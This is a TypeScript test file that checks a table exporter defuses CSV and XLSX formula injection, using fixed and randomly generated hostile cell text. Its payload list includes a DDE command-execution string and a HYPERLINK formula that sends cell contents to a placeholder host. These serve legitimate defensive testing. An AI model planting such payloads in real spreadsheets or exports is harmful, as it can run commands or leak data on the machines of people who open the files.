import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import fc from 'fast-check';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { writeTable, type Cell } from '../../../src/core/export/table-writer';
import { neutralizeFormula, xmlSafe } from '../../../src/core/export/safe-cell';

let dir: string;
beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'loket-table-'));
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

let fileNo = 0;
const nextFile = (ext: string): string => join(dir, `t${fileNo++}.${ext}`);

/** What a spreadsheet could take for the start of a formula (after any leading whitespace). */
const FORMULA_START = /^[\s\0]*[=+\-@\uff1d\uff0b\uff0d\uff20]/u;
const startsAsFormula = (text: string): boolean => FORMULA_START.test(text) || /^[\t\r\n\0]/.test(text);

/** Names an attacker would put in a list file: formula prefixes, quotes, separators, line breaks, any unicode. */
const hostileText = fc
  .tuple(
    fc.constantFrom('', ' ', '  ', '\t', '\r', '\n', '\r\n', '\0'),
    fc.constantFrom('', '=', '+', '-', '@', '\uff1d', '\uff0b', '\uff0d', '\uff20', '"', "'", ';', ','),
    fc.string({
      unit: fc.oneof(
        fc.constantFrom('=', '+', '-', '@', '"', "'", ';', ',', '\r', '\n', '\t', ' ', 'é', '漢', '😀', 'ﷺ', '\u202e'),
        fc.string({ unit: 'grapheme', minLength: 1, maxLength: 1 }),
      ),
      maxLength: 20,
    }),
  )
  .map(([lead, prefix, rest]) => lead + prefix + rest);

/** Example payloads from the CSV injection literature (the last one needs a leading = to run, so it stays as it is). */
const PAYLOADS = ['=1+1', '=HYPERLINK("http://x.example/?"&A1,"klik")', "=cmd|' /C calc'!A0", '+SUM(1,2)', '-2+3', '@SUM(1)', ' =1+1', '\t=1', '\r=1', '＝1+1', 'DDE ("cmd";"/C calc";"!A0")A0'];

describe('writeTable: CSV', () => {
  it('neutralizes the known payloads and leaves ordinary text alone', async () => {
    const rows: Cell[][] = [...PAYLOADS, 'Siti Aminah', "O'Neil", 'K2-U-004', '2026-11-23'].map((text) => [text]);
    const back = await roundTripCsv(rows);
    expect(back.slice(0, PAYLOADS.length - 1).every(([text]) => text!.startsWith("'"))).toBe(true);
    expect(back.slice(PAYLOADS.length).map(([text]) => text)).toEqual(['Siti Aminah', "O'Neil", 'K2-U-004', '2026-11-23']);
    expect(back[PAYLOADS.length - 1]![0]).toBe(PAYLOADS.at(-1));
  });

  it('hostile text comes back as the same text (apart from the added apostrophe) and never as a formula', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(fc.array(hostileText, { minLength: 3, maxLength: 3 }), { minLength: 1, maxLength: 6 }), async (rows) => {
        const back = await roundTripCsv(rows);
        expect(back).toHaveLength(rows.length);
        back.forEach((cells, r) =>
          cells.forEach((text, c) => {
            const original = rows[r]![c]!;
            expect(text).toBe(startsAsFormula(original) ? `'${original}` : original);
            expect(startsAsFormula(text!)).toBe(false);
          }),
        );
      }),
      { numRuns: 150 },
    );
  });

  it('numbers stay numbers, negative ones without an apostrophe', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(fc.oneof(fc.integer(), fc.double({ noNaN: true, noDefaultInfinity: true })), { minLength: 1, maxLength: 5 }), async (numbers) => {
        const back = await roundTripCsv(numbers.map((n) => [n]));
        expect(back.map(([text]) => Number(text))).toEqual(numbers.map((n) => (Object.is(n, -0) ? 0 : n)));
      }),
      { numRuns: 50 },
    );
  });
});

describe('writeTable: XLSX', () => {
  it('hostile text is a string cell holding the same text (apart from the added apostrophe), never a formula', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(fc.array(hostileText, { minLength: 2, maxLength: 2 }), { minLength: 1, maxLength: 5 }), async (rows) => {
        const sheet = await roundTripXlsx(rows, 'Daftar =1+1');
        rows.forEach((cells, r) =>
          cells.forEach((original, c) => {
            const cell = sheet.getRow(r + 2).getCell(c + 1);
            if (original === '') return expect(cell.value === null || cell.value === '').toBe(true);
            expect(cell.type).toBe(ExcelJS.ValueType.String);
            expect(cell.formula).toBeFalsy();
            const expected = xmlSafe(startsAsFormula(original) ? `'${original}` : original);
            // XML turns a carriage return into a line feed on reading; the text is otherwise the same.
            expect(String(cell.value).replace(/\r\n?/g, '\n')).toBe(expected.replace(/\r\n?/g, '\n'));
            expect(cell.numFmt).toBe('@');
          }),
        );
      }),
      { numRuns: 60 },
    );
  });

  it('numbers stay numbers; control characters a workbook cannot hold become U+FFFD; a hostile sheet name is fitted', async () => {
    const sheet = await roundTripXlsx([[-5, 'a\u0001b'], [3.25, '=1\u0007']], 'x/y?[z]:*\\'.repeat(5));
    expect(sheet.getRow(2).getCell(1).value).toBe(-5);
    expect(sheet.getRow(3).getCell(1).value).toBe(3.25);
    expect(sheet.getRow(2).getCell(2).value).toBe('a\ufffdb');
    expect(sheet.getRow(3).getCell(2).value).toBe("'=1\ufffd");
    expect(sheet.name.length).toBeLessThanOrEqual(31);
  });
});

describe('neutralizeFormula', () => {
  it('prefixes exactly the text whose first visible character (or first character) starts a formula', () => {
    fc.assert(
      fc.property(hostileText, (text) => {
        const out = neutralizeFormula(text);
        expect(out).toBe(startsAsFormula(text) ? `'${text}` : text);
      }),
    );
  });
});

async function roundTripCsv(rows: Cell[][]): Promise<string[][]> {
  const file = nextFile('csv');
  await writeTable(file, 'csv', { sheet: 's', headers: rows[0]!.map((_, i) => `h${i}`), rows });
  const records = parse(readFileSync(file, 'utf8'), { delimiter: ';', bom: true, relax_quotes: false, record_delimiter: '\r\n' }) as string[][];
  expect(records[0]).toEqual(rows[0]!.map((_, i) => `h${i}`));
  return records.slice(1);
}

async function roundTripXlsx(rows: Cell[][], sheetName: string): Promise<ExcelJS.Worksheet> {
  const file = nextFile('xlsx');
  await writeTable(file, 'xlsx', { sheet: sheetName, headers: rows[0]!.map((_, i) => `h${i}`), rows });
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.readFile(file);
  const sheet = workbook.worksheets[0];
  if (!sheet) throw new Error('no sheet');
  return sheet;
}
